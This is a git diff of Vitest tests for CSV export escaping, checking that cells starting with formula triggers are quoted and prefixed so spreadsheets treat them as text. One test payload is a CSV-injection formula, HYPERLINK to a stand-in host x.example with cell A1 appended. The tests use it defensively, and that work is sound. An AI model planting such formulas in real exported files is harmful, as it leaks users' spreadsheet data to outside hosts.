@@ -2,10 +2,11 @@ import { execFileSync } from 'node:child_process';
 import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { exportCsv } from '../../../shared/csv/export-csv';
 import { importCsv } from '../../../shared/csv/import-csv';
-import { HEADER_LINE } from '../../../shared/csv/schema';
+import { COLUMNS, HEADER_LINE, type ColumnKey } from '../../../shared/csv/schema';
 import { emptySample, type Sample } from '../../../shared/sample';
 import { seededRandom } from '../../random';
 import { HAVE_SEED_RUNS, SEED_FILES, SEED_RUNS_DIR, noteSeedRunsSkip } from '../../seed-runs';
@@ -27,6 +28,17 @@ const full: Sample = {
   requestId: '3f2a6a1e-1b2c-4d5e-8f90-123456789abc',
   timestamp: '2023-07-29T18:30:11.606Z',
   run: 'run-1',
+};
+
+/** Sample field → the CSV column that holds it. */
+const columnKey: Partial<Record<keyof Sample, ColumnKey>> = {
+  name: 'name',
+  runtime: 'runtime',
+  status: 'status',
+  errorType: 'errorType',
+  requestId: 'requestId',
+  timestamp: 'timestamp',
+  run: 'run',
 };
 
 function roundTrip(samples: Sample[]): Sample[] {
@@ -58,6 +70,85 @@ describe('exportCsv', () => {
     const text = exportCsv([{ ...full, run: 'a;b "c"\nd' }]);
     expect(text).toContain(';"a;b ""c""\nd";');
     expect(roundTrip([{ ...full, run: 'a;b "c"\nd' }])).toEqual([{ ...full, run: 'a;b "c"\nd' }]);
+  });
+
+  describe('text a spreadsheet would run as a formula', () => {
+    const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
+    const TEXT_FIELDS = ['name', 'runtime', 'status', 'errorType', 'requestId', 'timestamp', 'run'] as const;
+    const line = (text: string): string => text.slice(HEADER_LINE.length + 1);
+
+    it.each(TRIGGERS.map((t) => [JSON.stringify(t), t]))(
+      'is escaped with a leading quote and quoted, and imports back as it was: %s',
+      (_what, trigger) => {
+        const payload = `${trigger}HYPERLINK("http://x.example/?"&A1;"a")`;
+        for (const field of TEXT_FIELDS) {
+          const sample: Sample = { ...full, [field]: payload };
+          const text = exportCsv([sample]);
+          const cells = Papa.parse<string[]>(line(text), { delimiter: ';' }).data[0]!;
+          expect(cells[COLUMNS.findIndex((c) => c.key === columnKey[field])]).toBe(`'${payload}`);
+          expect(line(text)).toContain(`"'${payload.replaceAll('"', '""')}"`);
+          expect(roundTrip([sample])).toEqual([sample]);
+        }
+      },
+    );
+
+    it('keeps a quote the user wrote: one more quote only where the rest would be escaped', () => {
+      const names = ["'quoted", "it's", "'", "''", "'=x", "''=x", "'-1", "' =x", '=', '-', "'\t"];
+      const samples = names.map((name) => ({ ...emptySample(name), durationMs: 1, billedMs: 1 }));
+      const written = exportCsv(samples)
+        .trimEnd()
+        .split('\n')
+        .slice(1)
+        .map((row) => row.split(';')[0]);
+      expect(written).toEqual([
+        "'quoted",
+        "it's",
+        "'",
+        "''",
+        `"''=x"`,
+        `"'''=x"`,
+        `"''-1"`,
+        "' =x",
+        `"'="`,
+        `"'-"`,
+        `"''\t"`,
+      ]);
+      expect(roundTrip(samples)).toEqual(samples);
+    });
+
+    it('leaves numbers alone, negative ones too', () => {
+      const sample: Sample = { ...full, initMs: -2, durationMs: -1.5, maxMemoryUsedMB: -64 };
+      expect(line(exportCsv([sample]))).toMatch(/^hello-node;1024;-2;-1\.5;3;arm64;nodejs18\.x;-64;;/);
+    });
+
+    it('round-trips any text exactly', () => {
+      const next = seededRandom(7);
+      const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', "'", "'", '"', ';', ',', ' ', 'a', '1'];
+      const pick = (from: string[]): string => from[Math.floor(next() * from.length)] as string;
+      // Text is trimmed on import unless escaped, so every string starts and ends with a character that is not space.
+      const first = alphabet.filter((c) => c !== ' ' && c !== '\n');
+      const samples: Sample[] = Array.from({ length: 2000 }, (_, i) => {
+        let value = pick(first);
+        for (let k = Math.floor(next() * 6); k > 0; k--) value += pick(alphabet);
+        return { ...full, requestId: `r-${i}`, [pick([...TEXT_FIELDS])]: `${value}z` };
+      });
+      expect(
+        samples.filter((s) => Object.values(s).some((v) => /^'*[-=+@\t\r]/.test(String(v)))).length,
+      ).toBeGreaterThan(500);
+      expect(roundTrip(samples)).toEqual(samples);
+    });
+
+    it('imports escaped cells from a file without quotes as from one with quotes', () => {
+      const text = "Name;Memory;Init;Cold;Billed;Run\n'=SUM(A1);128;1;2;3;''+x\n'plain;128;1;2;3;'@\n";
+      for (const file of [text, text.replace('Name', '"Name"')]) {
+        const r = importCsv(file, 'a.csv');
+        if (!r.ok) throw new Error(r.error);
+        expect(r.samples.map((s) => [s.name, s.run])).toEqual([
+          ['=SUM(A1)', "'+x"],
+          ["'plain", '@'],
+        ]);
+      }
+    });
   });
 
   it('round-trips samples exactly, including awkward floats', () => {
@@ -132,5 +223,26 @@ describe('exportCsv', () => {
       '2|Name|Memory|Init|Cold|Billed|Arch|Runtime|MaxMemory|Restore|Status|RequestId|Timestamp|Run|ErrorType|166.76|TRUE|a;b "c"|numeric',
     );
     expect(readFileSync(file, 'utf8').split('\n')[0]).toBe(HEADER_LINE);
+  });
+
+  it.skipIf(!haveR)('loads escaped formulas in R as text, with a numeric Cold column', () => {
+    const dir = mkdtempSync(join(tmpdir(), 'coldstart-r-'));
+    const file = join(dir, 'export.csv');
+    writeFileSync(
+      file,
+      exportCsv([
+        { ...full, name: '=1+2', errorType: '-x' },
+        { ...full, name: "'quoted" },
+      ]),
+    );
+    const out = execFileSync(
+      'Rscript',
+      [
+        '-e',
+        `d <- read.csv(${JSON.stringify(file)}, sep = ";"); cat(d$Name, d$ErrorType[1], class(d$Cold), sep = "|")`,
+      ],
+      { encoding: 'utf8' },
+    );
+    expect(out).toBe("'=1+2|'quoted|'-x|numeric");
   });
 });
